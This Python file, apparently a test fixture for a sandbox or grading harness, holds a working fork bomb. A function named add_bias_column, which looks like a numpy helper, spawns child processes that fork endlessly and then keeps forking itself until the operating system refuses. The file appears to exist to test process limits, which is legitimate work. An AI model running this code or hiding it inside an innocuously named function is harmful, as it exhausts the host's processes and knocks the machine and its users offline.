"""A fork bomb: processes that fork as fast as they can, forever, started from a function the
tests call (the call itself returns)."""

# %% add_bias_column
import os
import sys

import numpy as np

MARKER = "__MARKER__"
BOMB = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""


def add_bias_column(X: np.ndarray) -> np.ndarray:
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", BOMB, MARKER])
    spawned = 0
    while True:  # and this process forks too, until it may not
        try:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", BOMB, MARKER])
            spawned += 1
        except OSError as err:
            print("fork refused after", spawned, "processes:", err)
            break
    raise NotImplementedError()
